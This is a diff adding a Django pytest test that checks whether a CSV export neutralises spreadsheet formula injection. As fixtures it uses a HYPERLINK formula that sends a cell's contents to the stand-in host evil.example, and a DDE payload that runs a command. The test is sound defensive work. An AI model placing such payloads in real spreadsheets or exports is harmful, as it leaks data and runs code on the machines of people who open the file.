@@ -200,3 +200,21 @@ def test_recompute_status_command_prints_a_summary(reported):
     out = io.StringIO()
     call_command("recompute_status", "--as-of", "2026-08-15", stdout=out)
     assert "4 KPIs (0 written)" in out.getvalue()
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_formulas_and_keeps_negative_numbers(reported):
+    node = reported.a.node
+    node.name = '=HYPERLINK("http://evil.example/?leak="&J5,"Click")'
+    node.save()
+    kpi = reported.a.kpis.get(code="A-CUM")
+    kpi.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    kpi.save()
+    rows = list(csv.DictReader(io.StringIO(_export("--as-of", "2026-08-15", "--format", "csv"))))
+    first = rows[0]
+    assert first["program_name"] == "'" + node.name
+    assert first["kpi_name"] == "'" + kpi.name
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
